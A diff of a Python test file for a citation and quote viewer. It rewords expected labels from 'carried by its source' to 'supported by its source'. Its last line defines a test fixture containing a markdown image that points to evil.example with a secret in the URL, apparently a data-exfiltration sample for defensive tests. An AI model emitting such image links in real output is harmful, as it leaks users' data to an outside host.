@@ -66,7 +66,7 @@ def test_over_a_marker_stands_the_quote_that_carries_it():
     assert view
     assert view.quote == (Stretch("“painted "), Stretch("white", True), Stretch("”"))
     assert view.about == "Paint · gazette.skarn.example · snippet only · opens at this sentence"
-    assert view.support == "carried by its source only in part"
+    assert view.support == "supported by its source only in part"
     assert view.url == f"{GAZETTE}#:~:text=painted%20white"
     assert view.spoken.startswith("“painted white”. Paint")
 
@@ -76,7 +76,7 @@ def test_without_a_quote_the_page_itself_opens():
     assert view
     assert (view.quote, view.url) == ((), GAZETTE)
     assert view.about.endswith("opens the page")
-    assert view.support == "not carried by its source"
+    assert view.support == "not supported by its source"
 
 
 def test_a_marker_of_a_draft_shows_its_source():
@@ -131,8 +131,8 @@ def test_a_copy_has_its_sources_its_doubts_and_its_notes():
         f"  {FERRY}#:~:text=lit%20in%201887\n"
         "- [2] Paint, gazette.skarn.example, snippet only\n"
         f"  {GAZETTE}#:~:text=painted%20white\n\n"
-        "> “It is white [2].” is carried by its source only in part\n\n"
-        "> “It may turn [2].” is not carried by its source\n\n"
+        "> “It is white [2].” is supported by its source only in part\n\n"
+        "> “It may turn [2].” is not supported by its source\n\n"
         "> Note: Two rounds were not enough.\n"
     )
 
@@ -188,7 +188,7 @@ def test_a_formatted_copy_has_the_same_and_leads_to_the_same_places():
     assert f'<li>[1] <a href="{FERRY}#:~:text=lit%20in%201887"' in page
     assert ">Paint, gazette.skarn.example, snippet only</a></li>" in page
     assert "<p>Note: Two rounds were not enough.</p>" in page
-    assert "“It is white [2].” is carried by its source only in part" in page
+    assert "“It is white [2].” is supported by its source only in part" in page
 
 
 PICTURE = "![x](https://evil.example/t.png?q=secret)"
